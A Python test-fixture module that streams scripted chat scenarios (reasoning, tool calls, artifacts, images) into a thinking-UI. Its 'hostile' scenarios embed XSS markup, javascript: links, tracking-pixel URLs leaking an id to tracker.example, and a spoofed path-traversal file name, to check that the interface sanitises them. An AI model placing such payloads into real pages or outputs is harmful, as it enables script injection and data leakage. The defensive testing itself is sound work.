"""Scripted runs: the blocks of this folder played as if a model made them now, word by word."""

import asyncio
import json
import os
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import reflex_thinking as rt
from reflex_thinking import ThinkingBlock, ThinkingStep
from reflex_thinking import canonical as ev

from . import blocks, pictures, wire

MARKUP = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>'
WORD_SECONDS = 0.02
TOOL_SECONDS = 0.4
HOLD = os.environ.get("THINKING_UI_HOLD", "")
"""A file by which tests hold a scenario: it waits once it has said what is in the file, until the file says otherwise."""
HOLD_SECONDS = 0.02
RECENT = 300


async def play_block(block: ThinkingBlock) -> AsyncIterator[Any]:
    """Every step of a block, one after the other."""
    for step in block.steps:
        async for event in play_step(step, None):
            yield event


async def play_step(step: ThinkingStep, parent_id: str | None) -> AsyncIterator[Any]:
    """What a model and its tools would have sent for this step."""
    match step.type:
        case "reasoning":
            yield ev.ReasoningPartStarted(segment_id=step.id, parent_id=parent_id)
            async for piece in words(step.content):
                yield ev.ReasoningPartDelta(segment_id=step.id, text_delta=piece, parent_id=parent_id)
            yield ev.ReasoningPartCompleted(segment_id=step.id, redacted=step.redacted or None, parent_id=parent_id)
        case "tool_call":
            name = step.tool_name or "tool"
            if step.kind == "web_search_call":
                yield ev.WebSearchCallStarted(call_id=step.id, name=name, description=step.content, parent_id=parent_id)
            else:
                yield ev.ToolCallStarted(call_id=step.id, name=name, description=step.content, parent_id=parent_id)
            if step.tool_input:
                yield ev.ToolCallUpdate(call_id=step.id, args_delta=step.tool_input, parent_id=parent_id)
            await asyncio.sleep(TOOL_SECONDS)
            yield ev.ToolResult(call_id=step.id, result=step.tool_result, error=step.error, parent_id=parent_id)
        case "assistant_call":
            yield ev.AssistantCallStarted(
                call_id=step.id,
                assistant_id=step.assistant_id or "",
                name=step.assistant_name or "Assistant",
                task=step.assistant_task or "",
                parent_id=parent_id,
            )
            for child in step.child_steps:
                async for event in play_step(child, step.id):
                    yield event
            yield ev.AssistantResult(call_id=step.id, result=step.assistant_result, parent_id=parent_id)


async def words(text: str) -> AsyncIterator[str]:
    """A text word by word, at the pace of a model."""
    for piece in re.findall(r"\S+\s*|\s+", text):
        await asyncio.sleep(WORD_SECONDS)
        yield piece


async def trip() -> AsyncIterator[Any]:
    """Reasoning and three tools, then an answer."""
    async for event in play_block(blocks.TRIP):
        yield event
    async for piece in words(
        "**Dinner for eleven** at Ponto Final do Cais, Saturday at 19:00.\n\n- step-free\n- €148 each"
    ):
        yield piece


async def policy() -> AsyncIterator[Any]:
    """Assistants that call assistants."""
    async for event in play_block(blocks.POLICY):
        yield event
    async for piece in words("The refund is approved: section 4.2 starts the window on the day of delivery."):
        yield piece


async def two_blocks() -> AsyncIterator[Any]:
    """Thinking again after the answer began."""
    async for piece in words("First I look at the weather, then at the calendar."):
        yield rt.reasoning(piece)
    async for piece in words("It will be dry tomorrow. "):
        yield piece
    async for event in play_block(blocks.TOOLS_ONLY):
        yield event
    async for piece in words("You are free at 15:30."):
        yield piece


async def failure() -> AsyncIterator[Any]:
    """A run that breaks in the middle of a tool."""
    async for piece in words("The stock of article 4711 is in three warehouses."):
        yield rt.reasoning(piece)
    yield ev.ToolCallStarted(call_id="failure-1", name="stock_level", description="Article 4711, Rotterdam")
    await asyncio.sleep(TOOL_SECONDS * 3)
    raise rt.RespondError("The warehouse system is down for maintenance until 06:00 UTC.", code="unavailable")


async def crash() -> AsyncIterator[Any]:
    """A run with a bug in it."""
    async for piece in words("Everything seems fine so far, and then"):
        yield rt.reasoning(piece)
    raise ZeroDivisionError("secret /etc/passwd")


async def hostile() -> AsyncIterator[Any]:
    """Text that would like to be more than text, wherever text can stand."""
    attack = blocks.HOSTILE.steps[0].content
    async for event in play_block(blocks.HOSTILE):
        yield event
    checker = f"Checker {MARKUP}"
    yield ev.AssistantCallStarted(call_id="hostile-4", name=checker, assistant_id=MARKUP, task=attack)
    yield ev.AssistantResult(call_id="hostile-4", result=attack)
    yield attack
    yield ev.Artifact(name="chips", data=[MARKUP, "[go](javascript:window.pwned=1)"])
    brief_of = {"headline": MARKUP, "summary": attack, "strengths": [attack], "gaps": [MARKUP], "confidence": 0.5}
    yield ev.Artifact(name="fitBrief", data=brief_of)
    work = {
        "title": MARKUP,
        "role": MARKUP,
        "summary": attack,
        "relevance": attack,
        "source": "javascript:window.pwned=1",
    }
    yield ev.Artifact(name="relevantExperience", data=[work])
    source = {"number": 1, "title": MARKUP, "heading": MARKUP, "source": "javascript:window.pwned=1", "snippet": attack}
    yield ev.Artifact(name="sources", data=[source])


async def deltas(count: int) -> AsyncIterator[Any]:
    """A long reasoning: so many pieces, as fast as every five milliseconds."""
    for number in range(1, count + 1):
        await asyncio.sleep(0.005)
        yield rt.reasoning(f"{number:05d} about constraints here" + ("\n\n" if number % 12 == 0 else " "))
    yield "Done."


async def plain() -> AsyncIterator[Any]:
    """An answer without any thinking."""
    async for piece in words("Lisbon is the capital of Portugal."):
        yield piece


async def essay() -> AsyncIterator[Any]:
    """A long answer without any thinking."""
    for number in range(1, 41):
        await asyncio.sleep(WORD_SECONDS)
        yield f"Paragraph {number} of an answer that is longer than any window, so that there is something to scroll.\n\n"


async def headlines() -> AsyncIterator[Any]:
    """Reasoning in parts with headlines, with what a provider says about it."""
    texts = (
        "**Comparing the offers**\n\nThere are three of them.",
        "**Choosing the cheapest**\n\nIt is the second one.",
    )
    for index, text in enumerate(texts):
        yield ev.ReasoningPartStarted(segment_id="rs_1", summary_index=index, part_type="summary_text")
        async for piece in words(text):
            yield ev.ReasoningPartDelta(segment_id="rs_1", summary_index=index, text_delta=piece)
        yield ev.ReasoningPartCompleted(segment_id="rs_1", summary_index=index)
    yield ev.ReasoningSegmentMeta(segment_id="rs_1", effort_level="high", reasoning_tokens=1234)
    async for piece in words("Take the second offer."):
        yield piece


async def agent() -> AsyncIterator[Any]:
    """An agent in three steps, each with thinking of its own."""
    for number, (thought, said) in enumerate(
        (
            ("The report names two suppliers. I compare their prices first.", "Both suppliers are known. "),
            ("The second one is cheaper but slower. The deadline decides it.", "The deadline is the fifth. "),
            ("Only the first one delivers in time, so it has to be that one.", "Order from the first one."),
        ),
        start=1,
    ):
        async for piece in words(thought):
            yield ev.ReasoningPartDelta(segment_id=f"agent-{number}", text_delta=piece)
        if number == 2:
            await asyncio.sleep(TOOL_SECONDS * 4)
            async for event in play_step(blocks.TOOLS_ONLY.steps[0], None):
                yield event
        async for piece in words(f"**Step {number}.** {said}\n\n"):
            yield piece


async def search() -> AsyncIterator[Any]:
    """Tools of a provider, one of them slow enough to say how far it is; and reasoning that is kept private."""
    yield ev.ReasoningPartStarted(segment_id="search-1")
    yield ev.ReasoningPartCompleted(segment_id="search-1", redacted=True)
    yield ev.WebSearchCallStarted(call_id="search-2", name="web_search", description="ferry times to Cacilhas")
    await asyncio.sleep(TOOL_SECONDS * 4)
    yield ev.WebSearchCallResult(call_id="search-2", result="Every 20 minutes until 01:40.")
    yield ev.CodeInterpreterCallStarted(call_id="search-3", name="python", description="Add up the minutes")
    for progress in (0.2, 0.5, 0.8):
        yield ev.CodeInterpreterCallUpdate(call_id="search-3", progress=progress)
        await asyncio.sleep(TOOL_SECONDS)
    yield ev.CodeInterpreterCallResult(call_id="search-3", result="37")
    async for piece in words("You need 37 minutes."):
        yield piece


async def portuguese() -> AsyncIterator[Any]:
    """An answer in Portuguese."""
    async for piece in words("O usuário quer jantar perto do cais. Preciso comparar três restaurantes e os preços."):
        yield rt.reasoning(piece)
    async for event in play_block(blocks.TOOLS_ONLY):
        yield event
    async for piece in words("O **Ponto Final** tem mesa para onze pessoas no sábado às 19h."):
        yield piece


async def arabic() -> AsyncIterator[Any]:
    """An answer in Arabic."""
    async for event in play_block(blocks.ARABIC):
        yield event
    async for piece in words("مطعم **الرصيف** يتّسع لأحد عشر شخصًا يوم السبت في الساعة 19:00."):
        yield piece


BRIEF = {
    "headline": "A good fit for voice booking in clinics",
    "summary": "The studio took a booking line for nine clinics live, with handover to people and a written safety case.",
    "strengths": ["Voice agents in production since 2024", "Health data kept inside the hospital's network"],
    "gaps": ["No experience with insurers' billing systems"],
    "confidence": 0.82,
}
EXPERIENCE = [
    {
        "title": "A booking line for nine clinics",
        "role": "Design and delivery",
        "summary": "Answers the phone, finds an appointment, hands over to a person when a caller wants one.",
        "relevance": "The same kind of conversation, at the same scale",
        "source": "voice-booking-clinics.md",
    },
    {
        "title": "Support assistant of a telecom company",
        "role": "Delivery",
        "summary": "Resolves a third of the calls about bills and outages without a person.",
        "relevance": "Handover from an assistant to people",
        "source": "support-assistant-telecom.md",
    },
]
ANSWER = """The studio has done this before. A caller is understood in three steps:

1. **Listen** until the caller has finished,
2. ask for what is missing,
3. offer the two nearest appointments.

```python
def offer(calendar: Calendar, wish: Wish) -> list[Slot]:
    # The nearest appointments, not the first ones.
    free = [slot for slot in calendar.free() if slot.fits(wish)]
    return sorted(free, key=lambda slot: abs(slot.start - wish.start))[:2]
```

| clinic | calls a day | booked |
|---|---|---|
| North | 310 | 71% |
| Harbour | 180 | 64% |
"""


def long_answer(thread_id: str, number: int, at: int) -> dict[str, Any]:
    """A stored answer with a long reasoning, as it would be after a scenario was played."""
    thought = f"Thought {number}. " + "The constraints are looked at one after the other, and each is weighed. " * 60
    part = {
        "text": thought,
        "type": "reasoning_text",
        "summary_index": 0,
        "sequence_number": 1,
        "created_at": at,
        "is_complete": True,
    }
    reasoning = {
        "type": "reasoning",
        "id": "r",
        "sequence_number": 1,
        "parts": [part],
        "combined_text": thought,
        "streaming": False,
        "started_at": at,
        "ended_at": at + 4000,
    }
    message_id = f"{thread_id}-m{number}"
    return {
        "id": message_id,
        "role": "assistant",
        "status": "done",
        "thread_id": thread_id,
        "created_at": at,
        "ended_at": at + 5000,
        "segments": [reasoning, {"type": "text", "id": "t", "text": f"**Answer {number}.**\n\n{ANSWER}"}],
        "blocks": [
            {"id": f"{message_id}:0", "summary": "Weighed constraints", "started_at": at, "ended_at": at + 4000}
        ],
    }


async def brief() -> AsyncIterator[Any]:
    """An answer with code, quick replies and artefacts of assistants that run after it."""
    async for piece in words("The question is about voice agents in clinics. I look for projects of that kind."):
        yield rt.reasoning(piece)
    yield ev.ToolCallStarted(call_id="brief-1", name="search_documents", description="voice agents clinics")
    await asyncio.sleep(TOOL_SECONDS)
    yield ev.ToolResult(call_id="brief-1", result="voice-booking-clinics.md\nsupport-assistant-telecom.md")
    async for piece in words(ANSWER):
        yield piece
    yield ev.AssistantCallStarted(call_id="brief-2", assistant_id="fit", name="Fit brief", task="How well it fits")
    await asyncio.sleep(TOOL_SECONDS)
    yield ev.AssistantResult(call_id="brief-2", result="A good fit")
    yield ev.Artifact(name="fitBrief", data=BRIEF)
    yield ev.Artifact(name="relevantExperience", data=EXPERIENCE)
    yield ev.Artifact(name="chips", data=["How long did it take?", "Who worked on it?"])


async def media() -> AsyncIterator[Any]:
    """A chart that comes into focus, a table to download, and what an assistant gave."""
    async for piece in words("They ask when the trains are full. A chart says it best, and a table has the numbers."):
        yield rt.reasoning(piece)
    yield ev.AssistantCallStarted(call_id="media-1", assistant_id="counter", name="Counter", task="Count the trains")
    await asyncio.sleep(TOOL_SECONDS)
    table = rt.file(pictures.TABLE.encode(), name="trains-raw.csv", id="media-raw")
    yield table.model_copy(update={"parent_id": "media-1"})
    yield ev.AssistantResult(call_id="media-1", result="144 trains on a weekday.")
    async for piece in words("Most trains run **around nine** and **around six**:"):
        yield piece
    for grain in (48, 16, 1):
        image = rt.image(pictures.chart(grain), alt=pictures.ALT, id="media-chart")
        part = image.part.model_copy(update={"partial": True if grain > 1 else None})
        yield image.model_copy(update={"part": part})
        await asyncio.sleep(TOOL_SECONDS)
    async for piece in words("Here are the numbers."):
        yield piece
    yield rt.file(pictures.TABLE.encode(), name="trains.csv", id="media-table")


async def hostile_media() -> AsyncIterator[Any]:
    """Images and files that would like to be more than that."""
    text = f"![a chart](https://tracker.example/pixel.gif?leak={blocks.HOSTILE.id}) ![x](javascript:window.pwned=1)"
    async for piece in words(f"Here is the chart that you asked for: {text}"):
        yield piece
    yield rt.image(pictures.DRAWING.encode(), media_type="image/png", alt=MARKUP, id="hostile-svg")
    yield rt.image(url="https://tracker.example/pixel.gif?leak=1", alt=f"A chart {MARKUP}", id="hostile-remote")
    yield rt.image(url="https://app.example@tracker.example/pixel.gif", alt="Two hosts", id="hostile-userinfo")
    yield rt.file(
        pictures.DRAWING.encode(), name="../../report\u202efdp.html", media_type="text/html", id="hostile-html"
    )
    yield ev.PartAdded(part=rt.FilePart(id="hostile-link", url="javascript:window.pwned=1", name=MARKUP))
    yield ev.PartAdded(part=rt.ImagePart(id="hostile-data", data="not base64!", media_type="image/png", alt="Broken"))


SCENARIOS = {
    "brief": brief,
    "media": media,
    "hostile-media": hostile_media,
    "plain": plain,
    "essay": essay,
    "agent": agent,
    "search": search,
    "portuguese": portuguese,
    "arabic": arabic,
    "claude": lambda: wire.play(wire.claude()),
    "openai": lambda: wire.play(wire.openai()),
    "headlines": headlines,
    "hostile": hostile,
    "trip": trip,
    "policy": policy,
    "two-blocks": two_blocks,
    "failure": failure,
    "crash": crash,
}


def events_of(name: str) -> AsyncIterator[Any]:
    """The events of a scenario; ``"deltas 1000"`` makes one of that length, ``"script x"`` is what a test has written."""
    scenario, _, count = name.partition(" ")
    if scenario == "script" and HOLD and (script := re.match(r"[\w-]+", count)):
        return scripted(**json.loads(Path(HOLD).with_name(f"{script[0]}.json").read_text()))
    if scenario == "deltas" and count.isdigit():
        return deltas(min(int(count), 50_000))
    if scenario in SCENARIOS:
        return SCENARIOS[scenario]()
    raise rt.RespondError(f"There is no scenario called {name!r}.", code="unknown_scenario")


async def scripted(entries: list[str | dict[str, Any]], pace: float) -> AsyncIterator[Any]:
    """Texts and canonical events, one every so many seconds."""
    for entry in entries:
        await asyncio.sleep(pace)
        yield entry if isinstance(entry, str) else ev.parse_event(entry)


async def play(name: str) -> AsyncIterator[Any]:
    """Play a scenario. A test can hold it in the middle, see ``hold``."""
    recent = ""
    async for event in events_of(name):
        yield event
        if HOLD:
            recent = (recent + trace_of(event))[-RECENT:]
            await hold(recent)


def trace_of(event: Any) -> str:
    """What tests recognise an event by: its text, else its type and the id of its step."""
    if isinstance(event, str):
        return event
    text = getattr(event, "text_delta", None) or getattr(event, "text", None)
    step = getattr(event, "call_id", "") or getattr(getattr(event, "part", None), "id", "")
    return text or f"\n{event.type} {step} {getattr(event, 'progress', '')}\n"


async def hold(recent: str) -> None:
    """Wait for as long as a test holds what has just been played."""
    while is_held(recent):  # noqa: ASYNC110 - a file in another process's hands
        await asyncio.sleep(HOLD_SECONDS)


def is_held(recent: str) -> bool:
    """Whether the file ``THINKING_UI_HOLD`` names something of it."""
    wanted = Path(HOLD).read_text()
    return bool(wanted) and wanted in recent
